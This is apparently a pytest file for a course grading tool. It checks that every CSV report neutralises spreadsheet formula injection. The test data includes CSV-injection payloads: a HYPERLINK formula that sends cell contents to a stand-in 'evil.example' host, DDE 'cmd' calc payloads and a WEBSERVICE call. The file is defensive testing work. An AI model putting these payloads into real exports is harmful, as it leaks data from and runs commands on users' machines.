"""Every CSV cell the course writes goes through grader.csvout, which neutralises formulas.

A student id ``=HYPERLINK("http://evil/?"&A1,"click")`` (issue #38, item 3) reached
``report/lms.csv`` and ``report/similar.csv`` raw. Here: the cell rule itself over generated
text (Hypothesis), every writer of the package driven with hostile ids, names and reasons
(status.csv, lms.csv, similar.csv, exercises.csv, canvas.csv, moodle.csv), and the source
held to one writer (no ``csv.writer`` / ``csv.DictWriter`` outside csvout).
"""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cudacourse.course import authoring
from cudacourse.grader import classreport, csvout, runrecord

ROOT = authoring.ROOT
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1", " =1+1", "\uff1dcmd|' /C calc'!A0", "=cmd|' /C calc'!A0"]


def _dangerous(value: str) -> bool:
    """What a spreadsheet would evaluate: a formula sign first (after spaces too), unless
    the whole cell is a plain decimal number."""
    if csvout._DECIMAL.fullmatch(value):
        return False
    return value[:1] in csvout.FORMULA_START or value.lstrip()[:1] in csvout.FORMULA_START


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r\n \uff1d\uff0baz09.,'\"|\u202e")) |
               st.characters(), max_size=40))
def test_no_cell_is_a_formula_and_every_cell_is_one_line(value):
    out = csvout.cell(value)
    assert not _dangerous(out), (value, out)
    assert "\n" not in out and "\r" not in out
    if not _dangerous(value) and value == value.strip() and value.isprintable():
        assert out == value  # ordinary text is written as it is
    buf = io.StringIO()
    csvout.writer(buf).writerow([value, 1, 2.5, None])
    row = next(csv.reader(io.StringIO(buf.getvalue())))
    assert row == [out, "1", "2.5", ""]


@pytest.mark.parametrize("formula", FORMULAS)
def test_each_formula_start_is_neutralised(formula):
    assert csvout.cell(formula).startswith("'")


def test_numbers_stay_numbers():
    assert [csvout.cell(v) for v in (3, -0.5, "-0.5", "10", "8.25")] == \
        ["3", "-0.5", "-0.5", "10", "8.25"]


def test_only_csvout_makes_csv_writers():
    """The package's one CSV writer: every other module writes through grader.csvout."""
    offenders = []
    for path in sorted((ROOT / "src" / "cudacourse").rglob("*.py")):
        if path.name == "csvout.py":
            continue
        tree = ast.parse(path.read_text())
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
                    and isinstance(node.value, ast.Name) and node.value.id == "csv":
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
            if isinstance(node, ast.ImportFrom) and node.module == "csv" and any(
                    a.name in ("writer", "DictWriter") for a in node.names):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert not offenders, offenders


def _hostile_class() -> classreport.ClassData:
    C = classreport.CellResult
    kernel = "@cuda.jit\ndef add(x, y, out):\n    i = cuda.grid(1)\n    if i < out.size:\n" \
             "        out[i] = x[i] + y[i]\n"
    students = {}
    for sid in FORMULAS[:4] + ["ada"]:
        s = classreport.Student(sid, first_name="=1+2", last_name="@x", email="-e@x",
                                lms_user_id="+7", submitted=True, status="graded",
                                raw_score=1.0, reason="=WEBSERVICE(\"http://x\")")
        s.cells = {"test_add": C(1.0, 3.0, "=BAD()", False)}
        s.kernels = {"add": kernel}
        students[sid] = s
    return classreport.ClassData("01_gpu_vs_cpu", ["test_add"], {"test_add": 3.0}, students,
                                 {}, {}, {"test_add": "=TITLE()"})


def _cells(directory: Path) -> dict[str, list[str]]:
    out = {}
    for path in sorted(directory.glob("*.csv")):
        with open(path, newline="", encoding="utf-8") as fh:
            out[path.name] = [c for row in csv.reader(fh) for c in row]
    return out


def test_every_report_file_neutralises_hostile_ids_names_and_reasons(tmp_path, monkeypatch):
    monkeypatch.setattr(classreport, "collect", lambda *a, **k: _hostile_class())
    (tmp_path / "roster.csv").write_text(
        "student_id,first_name,last_name,canvas_id,section\nada,=A,-B,12,@sec\n")
    rep = classreport.write(tmp_path, "01_gpu_vs_cpu", out_dir=tmp_path / "report",
                            plot_png=False, provenance_record=False,
                            lms_assignment="=Lesson 1 (99)")
    cells = _cells(tmp_path / "report")
    assert set(cells) >= {"lms.csv", "similar.csv", "exercises.csv", "canvas.csv",
                          "moodle.csv"}
    assert {"lms", "similar", "canvas", "moodle"} <= set(rep.files)
    for name, values in cells.items():
        bad = [v for v in values if _dangerous(v)]
        assert not bad, (name, bad)
    # the hostile ids are there, as text: nothing was dropped
    lms = cells["lms.csv"]
    assert "'" + FORMULAS[0] in lms and "ada" in lms
    assert any(v.startswith("'=HYPERLINK") for v in cells["similar.csv"])


def test_status_csv_neutralises_ids_reasons_and_incidents(tmp_path):
    run = {"started": "2026-01-01T00:00:00", "seconds": 1, "isolation": "none",
           "results": [{"student": f, "assignment": "01", "status": "not_graded",
                        "reason": f, "incidents": [f], "lost": f} for f in FORMULAS]}
    paths = runrecord.write(run, tmp_path)
    values = _cells(tmp_path)["status.csv"]
    assert not [v for v in values if _dangerous(v)]
    assert paths["csv"].name == "status.csv"


def test_the_grade_files_carry_the_lms_columns_and_an_empty_cell_for_not_graded(tmp_path,
                                                                                 monkeypatch):
    """canvas.csv and moodle.csv (issue #39 item 5): the columns Canvas's gradebook import and
    Moodle's CSV import read, ids from the roster, the score after the penalty, and an empty
    cell (never 0) for a student not graded or without a submission."""
    C = classreport.CellResult
    ada = classreport.Student("ada", submitted=True, status="graded", raw_score=3.0,
                              late_penalty=0.5, first_name="Ada", last_name="Anders")
    ada.cells = {"test_add": C(3.0, 3.0)}
    bob = classreport.Student("bob", submitted=True, status="not graded", reason="x")
    cy = classreport.Student("cy", first_name="Cy", last_name="Cole", lms_user_id="777")
    data = classreport.ClassData("01_gpu_vs_cpu", ["test_add"], {"test_add": 3.0},
                                 {"ada": ada, "bob": bob, "cy": cy}, {}, {})
    monkeypatch.setattr(classreport, "collect", lambda *a, **k: data)
    (tmp_path / "roster.csv").write_text(
        "student_id,canvas_id,sis_user_id,sis_login_id,section,email,id_number\n"
        "ada,12345,S1,ada@x.edu,A,ada@x.edu,S1\nbob,12346,S2,bob@x.edu,A,bob@x.edu,S2\n")
    rep = classreport.write(tmp_path, "01_gpu_vs_cpu", out_dir=tmp_path / "r", plot_png=False,
                            provenance_record=False, lms_assignment="Lesson 1 (4242)")
    with open(rep.files["canvas"], newline="") as fh:
        canvas = list(csv.reader(fh))
    assert canvas[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section",
                         "Lesson 1 (4242)"]
    assert canvas[1] == ["Points Possible", "", "", "", "", "3"]
    assert canvas[2] == ["Anders, Ada", "12345", "S1", "ada@x.edu", "A", "2.5"]
    assert canvas[3][1] == "12346" and canvas[3][5] == ""  # not graded: empty, never 0
    assert canvas[4][:2] == ["Cole, Cy", "777"] and canvas[4][5] == ""  # from the gradebook
    with open(rep.files["moodle"], newline="") as fh:
        moodle = list(csv.DictReader(fh))
    assert list(moodle[0]) == ["ID number", "Email address", "First name", "Last name",
                               "Lesson 1 (4242)"]
    assert moodle[0]["Email address"] == "ada@x.edu" and moodle[0]["Lesson 1 (4242)"] == "2.5"
    assert moodle[1]["Lesson 1 (4242)"] == "" and moodle[2]["ID number"] == "cy"
